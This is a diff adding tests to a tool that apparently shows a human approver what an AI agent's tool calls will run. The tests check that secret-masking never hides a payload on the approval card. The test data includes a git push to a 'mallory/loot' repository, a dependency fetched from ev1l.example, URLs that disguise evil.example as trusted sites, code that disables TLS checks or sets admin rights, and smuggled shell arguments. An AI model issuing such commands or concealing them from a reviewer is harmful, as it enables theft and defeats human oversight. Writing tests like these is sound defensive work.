@@ -20,6 +20,7 @@ import pytest
 from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
+from tapgate.cards.change import change_of
 from tapgate.desk.case import Case
 from tapgate.model import NO_CONTEXT, Action, Card, Context, Draft, OnDisk, Request
 from tapgate.risk.assess import assess_request, with_changed_file
@@ -280,6 +281,191 @@ def test_escaped_quotes_hide_no_first_word_of_many(depth: int) -> None:
     assert "evilprog" in shown(card) or asks_twice(card)
 
 
+# Found by what stands around it, by a key, by its shape
+
+OPAQUE_PROGRAM = "Qx9zKp2mW7aB3dE5gH7j"  # long enough to be a bearer's token
+
+
+@pytest.mark.parametrize(
+    ("command", "payload"),
+    [
+        ("ip netns exec bearer ./tmp/evil-program9/run", "./tmp/evil-program9/run"),
+        (f"ip netns exec bearer {OPAQUE_PROGRAM}", OPAQUE_PROGRAM),
+        (f"bearer {OPAQUE_PROGRAM}", OPAQUE_PROGRAM),
+        ("pm2 start --name bearer ./tmp/evil-program9/run.js", "./tmp/evil-program9/run.js"),
+        ("git push origin -u HEAD:production", "HEAD:production"),
+        ("git push curl -u HEAD:production", "HEAD:production"),
+        ("git push -u git@host.example:mallory/loot main", "mallory/loot"),
+        ("git push -U x%production9", "production9"),
+        ("git push origin token=Qx9zKp2mW7", PROGRAM),
+        ("git checkout bearer src/payments-v2/ledger.py", "src/payments-v2/ledger.py"),
+        (f"git checkout login -p {PROGRAM}", PROGRAM),
+        (f"git rm default login x password {PROGRAM}", PROGRAM),
+        ("cp ../payload.zip -P src/main.py", "src/main.py"),
+        (f"cp zip -P {PROGRAM}", PROGRAM),
+        (f"rm redis-cli -a {PROGRAM}", PROGRAM),
+        ("cp evil 'x;key=/../src/server.py'", "/../src/server.py"),
+        (f"cp evil 'x;key={PROGRAM}'", PROGRAM),
+        (f"cp evil '/tmp/x?key={PROGRAM}'", PROGRAM),
+        (f"rm 'authorization: {OPAQUE_PROGRAM}'", OPAQUE_PROGRAM),
+        (f"rm 'Cookie: a={OPAQUE_PROGRAM}'", OPAQUE_PROGRAM),
+        (f"rm -- -pass pass:{PROGRAM}", PROGRAM),
+        (f"git clone https://github.com/{TOKEN_PROGRAM}/repo", TOKEN_PROGRAM),
+    ],
+)
+def test_a_context_hides_no_operand(command: str, payload: str) -> None:
+    """`bearer X`, `-u a:X`, `-P X` and `;key=X` say that X is a secret only to the programs that take it so: anywhere
+    else X is a program, a branch or a file, and is seen.
+    """
+    assert is_honest(prepared(bash(command)), payload)
+
+
+@pytest.mark.parametrize(
+    ("tool", "fields", "payload"),
+    [
+        (
+            "Write",
+            {"file_path": "/home/dev/shop/a.js", "content": "pass:process.env.NODE_TLS_REJECT_UNAUTHORIZED=0\n"},
+            "NODE_TLS_REJECT_UNAUTHORIZED=0",
+        ),
+        (
+            "Write",
+            {"file_path": "/home/dev/shop/a.c", "content": "void f(void) {\npass:user.is_admin=1;\n}\n"},
+            "user.is_admin=1",
+        ),
+        (
+            "Write",
+            {
+                "file_path": "/home/dev/shop/package.json",
+                "content": '{"dependencies": {"authorization": "git+https://ev1l.example/x.git"}}\n',
+            },
+            "ev1l.example",
+        ),
+        (
+            "Write",
+            {
+                "file_path": "/home/dev/shop/package.json",
+                "content": '{"scripts": {"authorization": "/tmp/evil9.sh"}}\n',
+            },
+            "/tmp/evil9.sh",
+        ),
+        ("Write", {"file_path": "/home/dev/shop/a;key=/../src/server.py", "content": "x\n"}, "src/server.py"),
+        ("Write", {"file_path": f"/home/dev/shop/a?key={PROGRAM}", "content": "x\n"}, PROGRAM),
+        ("Write", {"file_path": f"/home/dev/shop/{TOKEN_PROGRAM}", "content": "x\n"}, TOKEN_PROGRAM),
+        ("mcp__fs__delete", {"authorization": "/home/dev/shop/src9/main"}, "/home/dev/shop/src9/main"),
+        ("mcp__fs__delete", {"password": "aB3/dE5/gH7/jK9/mN1/pQ3"}, "aB3/dE5/gH7/jK9/mN1/pQ3"),
+        ("mcp__x__run", {"args": ["-----BEGIN PRIVATE KEY-----", KEY_PROGRAM]}, KEY_PROGRAM),
+    ],
+    ids=[
+        "js label",
+        "c label",
+        "dependency",
+        "npm script",
+        "path of a Write",
+        "query in a path",
+        "token as a file",
+        "mcp field",
+        "path of short names",
+        "key in a list",
+    ],
+)
+def test_no_key_or_label_hides_code_a_host_or_a_path(tool: str, fields: dict[str, Any], payload: str) -> None:
+    """A label called `pass:` hides no statement, a key called `authorization` neither a path nor an address."""
+    assert is_honest(prepared(make_request(tool=tool, tool_input=fields, suggestions=())), payload)
+
+
+@pytest.mark.parametrize(
+    ("tool", "fields"),
+    [
+        ("mcp__browser__navigate", {"url": "https://u:p@evil.example?@docs.python.org/"}),
+        ("mcp__browser__navigate", {"url": "https://u:p@evil.example\\@docs.python.org/"}),
+        ("mcp__browser__navigate", {"url": "https://u:p@evil.example:80@docs.python.org/"}),
+        ("Write", {"file_path": "/home/dev/shop/r.txt", "content": "-i https://u:p@evil.example?@pypi.org/simple\n"}),
+        (
+            "Write",
+            {"file_path": "/home/dev/shop/a.js", "content": "fetch('https://u:p@evil.example#@api.stripe.com/v1')\n"},
+        ),
+    ],
+    ids=["mcp", "backslash", "two hosts", "requirements", "code"],
+)
+def test_an_address_s_password_ends_before_the_host(tool: str, fields: dict[str, Any]) -> None:
+    """An address ends its authority at ? or #: the host before it is seen, whatever stands behind it."""
+    assert is_honest(prepared(make_request(tool=tool, tool_input=fields, suggestions=())), "evil.example")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "java -jar {}",
+        "valgrind ./{}",
+        "setarch -R ./{}",
+        "faketime now ./{}",
+        "pytest {}",
+        "python3 -m pip install ./{}",
+        "pip install -e {}",
+        "cargo run --manifest-path {}",
+        "sed 's/a/b/' -f {}",
+        "crontab - <<< '* * * * * ./{}'",
+        "echo ./{} > run.sh",
+    ],
+)
+def test_a_program_named_like_a_token_is_seen_wherever_it_is_run(command: str) -> None:
+    """A file that is named like a provider's token counts as data only where a program is known to take it so."""
+    assert is_honest(prepared(bash(command.format(TOKEN_PROGRAM))), TOKEN_PROGRAM)
+
+
+@pytest.mark.parametrize("name", ["./{}", "{}"])
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("x.py", 'import os\nos.system("@")\n'),
+        ("x.py", 'import subprocess\nsubprocess.run([\n    "@",\n])\n'),
+        ("x.js", 'require("child_process").execSync("@")\n'),
+        ("x.js", 'require("@")\n'),
+        ("package.json", '{"scripts": {"test": "@"}}\n'),
+        ("package.json", '    "test": "@",\n'),
+        ("ci.yml", "steps:\n  - run: @\n"),
+        ("ci.yml", "steps:\n  - run: |\n      cd x\n      @\n"),
+        ("ci.yml", "job:\n  script:\n    - pytest @\n"),
+        ("compose.yml", "services:\n  a:\n    command: @\n"),
+        ("Dockerfile", "FROM x\nRUN @\n"),
+        ("Dockerfile", "FROM x\nRUN java -jar @\n"),
+        ("Dockerfile", 'FROM x\nCMD ["@"]\n'),
+        ("Makefile", "all:\n\t@\n"),
+        ("Procfile", "web: @\n"),
+        ("x.service", "[Service]\nExecStart=@\n"),
+    ],
+)
+def test_code_that_is_written_does_not_hide_what_it_runs_directly(path: str, content: str, name: str) -> None:
+    """A hidden value that stands itself where code or a step runs it is used, without any name."""
+    text = content.replace("@", name.format(TOKEN_PROGRAM))
+    for tool, fields in (
+        ("Write", {"file_path": f"/home/dev/shop/{path}", "content": text}),
+        ("Edit", {"file_path": f"/home/dev/shop/{path}", "old_string": "x", "new_string": text}),
+    ):
+        card = prepared(make_request(tool=tool, tool_input=fields, suggestions=()))
+        assert is_honest(card, TOKEN_PROGRAM), shown(card)
+
+
+def test_a_script_with_a_secret_s_name_is_seen() -> None:
+    """`npm run password` would run it."""
+    fields = {"file_path": "/home/dev/shop/package.json", "content": f'{{"scripts": {{"password": "{PROGRAM}"}}}}\n'}
+    assert is_honest(prepared(make_request(tool="Write", tool_input=fields, suggestions=())), PROGRAM)
+
+
+def test_a_key_that_begins_in_the_file_does_not_hide_the_line_that_an_edit_puts_behind_it() -> None:
+    """The BEGIN line stands in the file, the line that runs comes with the edit."""
+    text = "#!/bin/sh\n: -----BEGIN PRIVATE KEY-----\necho end\n"
+    fields = {
+        "file_path": "/home/dev/shop/x.sh",
+        "old_string": "echo end\n",
+        "new_string": f"{KEY_PROGRAM}\necho end\n",
+    }
+    seen = change_of("Edit", fields, text, seen=OnDisk(0.0, size_bytes=len(text)))
+    card = prepared(make_request(tool="Edit", tool_input=fields, suggestions=()), Context(on_disk=seen))
+    assert is_honest(card, KEY_PROGRAM), shown(card)
+
+
 # Any payload, any runner
 
 NAMES = st.sampled_from(["API_TOKEN", "DB_PASSWORD", "password", "SECRET", "aws_secret_access_key", "X", "CODE"])
@@ -502,6 +688,26 @@ def test_one_opaque_token_is_never_sent(office: World) -> None:
     """A real password that is used again is named, but not shown to anybody."""
     office.ask(event_bytes(tool_input={"command": END_TO_END[0]}))
     assert "Show hidden" not in labels(office.open_card("Runs text that is hidden here"))
+
+
+def test_the_file_with_all_of_it_hides_no_program_that_runs(office: World) -> None:
+    """An apostrophe in a small fact above the command does not turn the command's quotes inside out."""
+    lines = "\n".join(f"echo line number {number} of a long script that builds things" for number in range(80))
+    command = f"{lines}\n: -----BEGIN PRIVATE KEY-----\n{KEY_PROGRAM}\n: -----END PRIVATE KEY-----\necho done"
+    office.ask(event_bytes(suggestions=(), tool_input={"command": command, "note": "it's"}))
+    card = office.open_card()
+    assert KEY_PROGRAM not in card["text"] and "hidden" not in card["text"]
+    office.tap(card, "Show all of it")
+    file = office.until(lambda: [one for one in office.cards() if one.get("document")])[-1]
+    assert KEY_PROGRAM in office.http.get(file["document"]["url"]).text
+
+
+def test_one_tap_does_not_allow_a_push_whose_branch_is_hidden(office: World) -> None:
+    """The branch stands on the card that the tap allows."""
+    caller = office.ask(event_bytes(suggestions=(), tool_input={"command": "git push origin -u HEAD:production"}))
+    card = office.open_card("HEAD:production")
+    office.tap(card, "Allow")
+    assert b'"allow"' in finish(caller)[0]
 
 
 def test_a_restart_forgets_neither_the_risk_nor_the_second_tap(office: World) -> None:
